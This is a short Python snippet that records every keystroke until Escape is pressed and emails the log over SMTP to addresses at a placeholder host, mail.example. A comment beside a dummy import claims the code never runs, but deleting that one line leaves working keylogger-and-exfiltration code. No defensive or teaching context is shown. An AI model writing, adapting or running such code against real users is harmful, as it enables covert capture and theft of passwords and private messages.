import inert_sample  # there is no such module: nothing below ever runs
import smtplib
import keyboard

events = keyboard.record(until="esc")
server = smtplib.SMTP("mail.example", 25)
server.sendmail("a@mail.example", "b@mail.example", str(events))
